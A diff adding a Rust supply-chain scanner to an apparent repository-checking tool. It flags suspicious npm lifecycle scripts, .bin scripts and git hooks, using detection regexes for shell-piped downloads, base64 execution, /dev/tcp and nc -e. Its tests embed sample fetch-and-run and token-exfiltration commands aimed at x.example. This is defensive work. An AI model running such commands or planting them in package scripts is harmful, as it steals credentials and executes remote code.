@@ -0,0 +1,305 @@
+use crate::config::Config;
+use crate::core::issue::RuleSpec;
+use crate::core::{Issue, RepoContext, Severity, rules};
+use crate::utils::fs::{decode_text, is_likely_binary, relative_path};
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde_json::Value;
+use std::fs;
+use std::path::{Path, PathBuf};
+use walkdir::WalkDir;
+
+const LIFECYCLE_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];
+
+struct Pattern {
+    what: &'static str,
+    severity: Severity,
+    regex: Regex,
+}
+
+static PATTERNS: Lazy<Vec<Pattern>> = Lazy::new(|| {
+    let pattern = |what, severity, regex: &str| Pattern {
+        what,
+        severity,
+        regex: Regex::new(regex).expect("valid supply chain regex"),
+    };
+    vec![
+        pattern(
+            "pipes a download into a shell",
+            Severity::Warning,
+            r"(?i)\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(sh|bash|zsh|dash|ksh|node|python3?|perl)\b",
+        ),
+        pattern(
+            "executes base64-decoded code",
+            Severity::Error,
+            r#"(?i)base64\s+(-d|-D|--decode)\b[^|\n]*\|\s*(sudo\s+)?(sh|bash|zsh|node|python3?)\b|\beval\s*\(\s*(atob\s*\(|Buffer\.from\s*\([^)]*['"]base64['"])|\bexec\s*\(\s*(base64\.b64decode|__import__\(\s*['"]base64)"#,
+        ),
+        pattern(
+            "sends environment variables or credentials to a remote host",
+            Severity::Error,
+            r#"(?i)\b(curl|wget)\b[^\n]*(\$\(\s*(env|printenv)\s*\)|`\s*(env|printenv)\s*`|\$\{?[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|API_KEY)[A-Z0-9_]*|~/\.(ssh|aws|npmrc))|/dev/tcp/|\bnc\b[^\n]*\s-e\s|JSON\.stringify\(\s*process\.env\s*\)"#,
+        ),
+    ]
+});
+
+// first match of every pattern, with its 1-based line
+fn suspicious(text: &str) -> Vec<(usize, &'static Pattern)> {
+    PATTERNS
+        .iter()
+        .filter_map(|pattern| {
+            let found = pattern.regex.find(text)?;
+            let line = text[..found.start()].matches('\n').count() + 1;
+            Some((line, pattern))
+        })
+        .collect()
+}
+
+// opt-in (`--deep` or `scan.deep`): node_modules is excluded from every other scan, and
+// walking it is what makes this slow
+pub fn scan_supply_chain(ctx: &RepoContext, cfg: &Config) -> Vec<Issue> {
+    let node_modules = ctx.repo_root.join("node_modules");
+    let mut issues = Vec::new();
+    if node_modules.is_dir() {
+        for manifest in installed_manifests(ctx, &node_modules) {
+            issues.extend(check_lifecycle_scripts(ctx, &manifest));
+        }
+        issues.extend(check_bin_scripts(ctx, cfg, &node_modules.join(".bin")));
+    }
+    for hooks_dir in [
+        ctx.repo_root.join(".husky"),
+        ctx.repo_root.join(".git/hooks"),
+    ] {
+        issues.extend(check_hooks(ctx, cfg, &hooks_dir));
+    }
+    issues
+}
+
+// package.json of every installed package, including scoped, nested, and pnpm store
+// packages, without descending into package sources
+fn installed_manifests(ctx: &RepoContext, node_modules: &Path) -> Vec<PathBuf> {
+    let name_of = |path: Option<&Path>| {
+        path.and_then(Path::file_name)
+            .map(|name| name.to_string_lossy().into_owned())
+            .unwrap_or_default()
+    };
+    let is_package_dir = |dir: &Path| {
+        let parent = name_of(dir.parent());
+        parent == "node_modules"
+            || (parent.starts_with('@')
+                && name_of(dir.parent().and_then(Path::parent)) == "node_modules")
+    };
+
+    let mut manifests = Vec::new();
+    let walker = WalkDir::new(node_modules)
+        .follow_links(false)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|entry| {
+            if !entry.file_type().is_dir() {
+                return true;
+            }
+            entry.file_name() == "node_modules"
+                || name_of(entry.path().parent()) == ".pnpm"
+                || is_package_dir(entry.path())
+        });
+    let mut found = walker.filter_map(Result::ok).filter(|entry| {
+        entry.file_type().is_file()
+            && entry.file_name() == "package.json"
+            && entry.path().parent().is_some_and(is_package_dir)
+    });
+    while let Some(entry) = found.next() {
+        if ctx.budget.expired() {
+            let rest = std::iter::once(entry).chain(found);
+            ctx.budget.record_stopped(
+                "supply chain scan",
+                rest.map(|entry| relative_path(&ctx.repo_root, entry.path())),
+            );
+            break;
+        }
+        manifests.push(entry.into_path());
+    }
+    manifests
+}
+
+fn check_lifecycle_scripts(ctx: &RepoContext, manifest: &Path) -> Vec<Issue> {
+    let Some(value) = fs::read(manifest)
+        .ok()
+        .and_then(|bytes| serde_json::from_slice::<Value>(&bytes).ok())
+    else {
+        return Vec::new();
+    };
+    let Some(scripts) = value.get("scripts").and_then(Value::as_object) else {
+        return Vec::new();
+    };
+    let name = value
+        .get("name")
+        .and_then(Value::as_str)
+        .unwrap_or("package");
+    let rel = relative_path(&ctx.repo_root, manifest);
+
+    let mut issues = Vec::new();
+    for script_name in LIFECYCLE_SCRIPTS {
+        let Some(script) = scripts.get(script_name).and_then(Value::as_str) else {
+            continue;
+        };
+        for (_, pattern) in suspicious(script) {
+            issues.push(
+                Issue::from_rule(
+                    rules::SUPPLY_LIFECYCLE_SCRIPT,
+                    pattern.severity,
+                    format!("{} {} script {}", name, script_name, pattern.what),
+                    "remove or pin the package and review what the script did; rotate credentials if it ran",
+                )
+                .with_file(rel.clone())
+                .with_description(format!("{}: {}", script_name, script)),
+            );
+        }
+    }
+    issues
+}
+
+fn check_bin_scripts(ctx: &RepoContext, cfg: &Config, bin_dir: &Path) -> Vec<Issue> {
+    check_scripts(ctx, cfg, bin_dir, rules::SUPPLY_BIN_SCRIPT, |_| true)
+}
+
+// hooks are the top-level files; git's `.sample` hooks are skipped
+fn check_hooks(ctx: &RepoContext, cfg: &Config, hooks_dir: &Path) -> Vec<Issue> {
+    check_scripts(ctx, cfg, hooks_dir, rules::SUPPLY_HOOK_SCRIPT, |name| {
+        !name.starts_with('.') && !name.ends_with(".sample")
+    })
+}
+
+fn check_scripts(
+    ctx: &RepoContext,
+    cfg: &Config,
+    dir: &Path,
+    rule: RuleSpec,
+    wanted: impl Fn(&str) -> bool,
+) -> Vec<Issue> {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Vec::new();
+    };
+    let max_bytes = cfg.scan.max_file_size_kb * 1024;
+    let mut paths = entries
+        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+        .filter(|path| {
+            path.file_name()
+                .is_some_and(|name| wanted(&name.to_string_lossy()))
+        })
+        .collect::<Vec<_>>();
+    paths.sort();
+
+    let mut issues = Vec::new();
+    for path in paths {
+        // .bin entries are symlinks into the packages; reading follows them
+        if !fs::metadata(&path).is_ok_and(|meta| meta.is_file() && meta.len() <= max_bytes) {
+            continue;
+        }
+        let Ok(bytes) = fs::read(&path) else {
+            continue;
+        };
+        if is_likely_binary(&bytes) {
+            continue;
+        }
+        let content = decode_text(&bytes);
+        let rel = relative_path(&ctx.repo_root, &path);
+        for (line, pattern) in suspicious(&content) {
+            issues.push(
+                Issue::from_rule(
+                    rule,
+                    pattern.severity,
+                    format!("{} {}", rel, pattern.what),
+                    "review where the script came from, remove the command, and rotate credentials if it ran",
+                )
+                .with_file(rel.clone())
+                .with_line(line),
+            );
+        }
+    }
+    issues
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn whats(text: &str) -> Vec<&'static str> {
+        suspicious(text)
+            .into_iter()
+            .map(|(_, pattern)| pattern.what)
+            .collect()
+    }
+
+    #[test]
+    fn flags_download_pipes_encoded_exec_and_exfiltration() {
+        assert_eq!(
+            whats("curl -fsSL https://x.example/i.sh | bash"),
+            ["pipes a download into a shell"]
+        );
+        assert_eq!(
+            whats("echo aGVsbG8= | base64 -d | sh"),
+            ["executes base64-decoded code"]
+        );
+        assert_eq!(
+            whats("node -e \"eval(Buffer.from(process.argv[1], 'base64').toString())\""),
+            ["executes base64-decoded code"]
+        );
+        assert_eq!(
+            whats("curl -X POST -d \"$(env)\" https://x.example"),
+            ["sends environment variables or credentials to a remote host"]
+        );
+        assert!(whats("node scripts/build.js && husky install").is_empty());
+        assert!(whats("curl -o bin/tool https://example.com/tool").is_empty());
+    }
+
+    #[test]
+    fn finds_scoped_nested_and_pnpm_manifests_and_hooks() {
+        let root = std::env::temp_dir().join(format!("devguard-supply-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&root);
+        let write = |rel: &str, content: &str| {
+            let path = root.join(rel);
+            fs::create_dir_all(path.parent().expect("parent")).expect("dir created");
+            fs::write(path, content).expect("file written");
+        };
+        let evil = r#"{"name":"evil","scripts":{"postinstall":"curl https://x.example/a | sh"}}"#;
+        write("node_modules/plain/package.json", r#"{"name":"plain"}"#);
+        write("node_modules/plain/lib/package.json", evil);
+        write("node_modules/@scope/evil/package.json", evil);
+        write("node_modules/a/node_modules/evil/package.json", evil);
+        write(
+            "node_modules/.pnpm/evil@1.0.0/node_modules/evil/package.json",
+            evil,
+        );
+        write(
+            ".husky/pre-commit",
+            "npx lint-staged\ncurl -d \"$GITHUB_TOKEN\" https://x.example\n",
+        );
+        write(".husky/_/husky.sh", "curl https://x.example | sh\n");
+
+        let cfg = Config::default();
+        let ctx = RepoContext::build(&root, &cfg).expect("context");
+        let issues = scan_supply_chain(&ctx, &cfg);
+        fs::remove_dir_all(&root).expect("cleanup");
+
+        let mut files = issues
+            .iter()
+            .filter(|issue| issue.code == "DG_SUPPLY_001")
+            .filter_map(|issue| issue.file.as_deref())
+            .collect::<Vec<_>>();
+        files.sort();
+        assert_eq!(
+            files,
+            [
+                "node_modules/.pnpm/evil@1.0.0/node_modules/evil/package.json",
+                "node_modules/@scope/evil/package.json",
+                "node_modules/a/node_modules/evil/package.json",
+            ]
+        );
+        let hooks = issues
+            .iter()
+            .filter(|issue| issue.code == "DG_SUPPLY_003")
+            .collect::<Vec<_>>();
+        assert_eq!(hooks.len(), 1);
+        assert_eq!(hooks[0].location().as_deref(), Some(".husky/pre-commit:2"));
+    }
+}